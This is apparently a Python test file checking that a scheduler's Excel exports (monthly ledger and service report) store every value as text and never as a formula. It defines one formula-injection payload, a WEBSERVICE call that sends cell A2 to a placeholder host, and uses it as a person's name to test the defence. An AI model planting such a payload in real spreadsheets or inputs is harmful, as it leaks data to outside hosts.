"""The scheduler's spreadsheets (monthly ledger, service report) write every value as text, never a formula."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from jobs.access.permissions import SYSTEM
from jobs.service.housekeeping import ledger_xlsx
from jobs.service.report import report_xlsx
from tests.factories import make_person

HOSTILE = '=WEBSERVICE("http://example.invalid/?"&A2)'


def test_a_name_that_looks_like_a_formula_is_text_in_the_monthly_ledger(session, vault):
    person = make_person(session, vault, name=HOSTILE)
    sheet = load_workbook(io.BytesIO(ledger_xlsx([person], vault))).active
    cell = sheet.cell(row=2, column=1)
    assert cell.data_type == "s" and cell.value == HOSTILE
    assert sheet.cell(row=2, column=2).value.count("*") == 8  # the ID number masked


def test_the_service_report_workbook_holds_only_text_and_numbers(session):
    report = {"year": 2025, "counties": [{"county": "430182", "name": HOSTILE, "eligible": 1, "met": 0,
                                          "job_pushes": 0, "training_pushes": 0, "guidance": 0,
                                          "laggards": [{"person_id": 1, "id_number": "430182********4517",
                                                        "missing": {"job": 3, "training": 1, "guidance": 1}}]}]}
    book = load_workbook(io.BytesIO(report_xlsx(session, report, actor=SYSTEM)))
    assert all(cell.data_type != "f" for sheet in book.worksheets for row in sheet.iter_rows() for cell in row)
    assert book["达标情况"].cell(row=2, column=2).value == HOSTILE
